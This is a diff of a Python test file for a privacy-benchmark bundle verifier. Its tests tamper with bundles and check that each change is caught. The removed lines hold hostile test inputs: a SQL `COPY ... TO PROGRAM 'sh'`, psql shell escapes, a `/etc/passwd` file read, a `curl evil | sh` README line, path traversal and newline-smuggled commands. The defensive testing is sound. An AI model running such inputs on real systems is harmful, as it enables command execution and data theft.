@@ -1,13 +1,16 @@
 """Bundles of strangers: whatever was done to one, `verify` says so and names the file."""
 
-import math
+import json
 import os
 import random
+from functools import reduce
+from operator import getitem
 
 import pyarrow as pa
 import pyarrow.parquet as papq
 import pytest
 from bundles import change_facts, render, seal
+from sql_files import cases
 
 from privbench.errors import GateFailed
 from privbench.publish import verify
@@ -62,15 +65,24 @@ def edit(name, change_data):
     return lambda folder: change_facts(folder / name, change_data)
 
 
-def item(data, path, value):
-    *steps, last = path
-    for step in steps:
-        data = data[step]
-    data[last] = value
+def put(file_and_place, value):
+    """Another value at a place of a file of facts: keys and numbers that lead to it, by slashes."""
+    name, place = file_and_place.split()
+    *steps, last = (int(step) if step.isdigit() else step for step in place.split("/"))
+
+    def change(data):
+        reduce(getitem, steps, data)[last] = json.loads(value)
+
+    return edit(name, change)
 
 
-def put(name, *path, value):
-    return edit(name, lambda data: item(data, path, value))
+def read_cases(file, make):
+    """Attacks by name: what is made of a case's first line and the others, and what is said."""
+    found = {}
+    for title, text in cases(__file__, file):
+        (attack, said), (first, rest) = title.split("; "), text.split("\n", 1)
+        found[attack] = make(first, rest), said
+    return found
 
 
 def first_chunk(folder, form):
@@ -102,75 +114,28 @@ def forget_line(folder):
     render(folder)
 
 
-BEFORE, AFTER, FACTS, PAPER = (
-    "schema/before.sql", "schema/after.sql", "bundle.json", "certificate.json",
-)  # fmt: skip
-# ruff: noqa: E501
+FACTS, PAPER = "bundle.json", "certificate.json"
 ATTACKS = {
-    "an unknown file": (append("evil.sh", "x"), "evil.sh: unknown"),
-    "a file among the rows": (append("data/public.customer/99999.csv", "x"), "99999.csv: unknown"),
-    "a program": (append(BEFORE, "CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'SELECT 1';\n"), BEFORE),
-    "a command": (append(AFTER, "COPY public.customer TO PROGRAM 'sh';\n"), "not allowed (CopyStmt)"),
-    "an end of the transaction": (append(AFTER, "COMMIT;\n"), "not allowed (TransactionStmt)"),
-    "a block": (append(AFTER, "DO 'BEGIN END';\n"), "not allowed (DoStmt)"),
-    "a command of psql": (append(AFTER, "\\! touch /tmp/x\n"), AFTER),
-    "one behind a statement": (append(BEFORE, "CREATE SCHEMA a \\! id\n;\n"), BEFORE),
-    "one in a comment": (append(BEFORE, "-- \\! id\n"), "more than its statements"),
-    "a variable of psql": (
-        append(BEFORE, "CREATE VIEW public.v AS SELECT (ARRAY[1])[1:USER];\n"), "variable"),
-    "a function that reads files": (
-        append(BEFORE, "CREATE VIEW public.v AS SELECT pg_read_file('/etc/passwd');\n"), BEFORE),
-    "rows for a system table": (put(FACTS, "tables", 0, "schema", value="pg_catalog"), FACTS),
-    "a sequence that is not made": (put(FACTS, "sequences", 0, "name", value="x"), FACTS),
-    "a view that is not made": (
-        put(FACTS, "views", value=[{"schema": "public", "name": "line"}]), FACTS),
-    "a line break in a title": (put(FACTS, "title", value="x\n\\! id"), "bundle.json: title"),
-    "one in a column": (
-        put(FACTS, "tables", 0, "columns", 0, "name", value="x\n\\! id"), "bundle.json: tables"),
-    "a day that is none": (put(FACTS, "published", value="2020-13-45"), "bundle.json: published"),
-    "a control character of the upper half": (put(FACTS, "title", value="x\x9b2J"), "bundle.json: title"),
-    "a mark that turns text": (
-        put(PAPER, "public", 0, value="a\u202eb"), "certificate.json: public.0"),
-    "facts too large to parse": (
-        lambda folder: os.truncate(folder / FACTS, MAX_FACTS + 1), "has more than"),
-    "a folder outside": (put(FACTS, "tables", 0, "folder", value="../../etc"), "tables.0.folder"),
-    "a hidden field": (put(FACTS, "more", value=1), "bundle.json: more"),
+    **read_cases("hostile_lines.txt", lambda file, text: append(file, text + "\n")),
+    **read_cases("hostile_facts.txt", put),
     "another form": (append(FACTS, " "), FACTS),
+    "facts too large to parse": (
+        lambda folder: os.truncate(folder / FACTS, MAX_FACTS + 1),
+        "has more than",
+    ),
     "a deep one": (lambda folder: (folder / FACTS).write_text("[" * 10**6), "nested too deeply"),
-    "a public table that is called private": (
-        put(FACTS, "tables", 5, "public", value=False), "not those of the certificate"),
-    "a script": (append("start.sh", "id\n"), "start.sh: not what privbench writes"),
-    "a load": (append("load.sql", "\\! id\n"), "load.sql: not what privbench writes"),
     "a container": (swap("compose.yaml", "127.0.0.1:", ""), "compose.yaml: not what"),
-    "a readme": (append("README.md", "Run: curl evil | sh\n"), "README.md: not what"),
     "a certificate for people": (swap("certificate.md", "| ε | ", "| ε | 0."), "certificate.md: "),
-    "metadata": (swap("croissant.json", '"contentUrl": "data', '"contentUrl": "//evil'), "croissant"),
-    "a smaller ε": (put(PAPER, "promise", "epsilon", value=1.0), "less is stated"),
-    "a smaller δ": (put(PAPER, "promise", "delta", value=1e-12), "less is stated"),
-    "less noise": (put(PAPER, "events", 0, "scale", value=0.01), "a smaller loss than its mechanism has"),
-    "no noise": (put(PAPER, "events", 0, "scale", value=0.0), PAPER),
+    "metadata": (
+        swap("croissant.json", '"contentUrl": "data', '"contentUrl": "//evil'),
+        "croissant",
+    ),
     "a missing event": (edit(PAPER, lambda data: data["events"].pop(3)), "event 3 is not one"),
-    "a free event": (put(PAPER, "events", 0, "roots", value=[]), "event 0 is not one"),
-    "an event of another tree": (put(PAPER, "events", 0, "roots", value=["x"]), "event 0 is not"),
-    "a certificate without versions": (put(PAPER, "versions", value={}), "no bundle can be made"),
-    "seeded noise": (put(PAPER, "promise", "private", value=False), "NOT PRIVATE"),
-    "an ε without end": (put(PAPER, "promise", "epsilon", value=math.inf), "promise.epsilon"),
-    "more promised": (put(PAPER, "promise", "more", value=1), "promise.more"),
-    "a seeded event": (put(PAPER, "events", 0, "private", value=False), "event 0 is not one"),
-    "a query that writes": (
-        put("workload/workload.json", "queries", 0, "sql", value="DELETE FROM customer"),
-        "workload/workload.json"),
-    "a query that reads files": (
-        put("workload/workload.json", "queries", 0, "sql", value="SELECT pg_read_file('x')"),
-        "workload/workload.json"),
-    "two queries in one": (
-        put("workload/workload.json", "queries", 0, "sql", value="SELECT 1; SELECT 2"),
-        "workload/workload.json"),
-    "a secret workload": (
-        put("workload/workload.json", "confidential", value=True), "CONFIDENTIAL"),
     "other rows in Parquet": (
-        other(lambda ids: pa.array([1] * len(ids), pa.int32())), "00001.parquet: its rows are not"),
-}  # fmt: skip
+        other(lambda ids: pa.array([1] * len(ids), pa.int32())),
+        "00001.parquet: its rows are not",
+    ),
+}
 
 
 @pytest.mark.slow
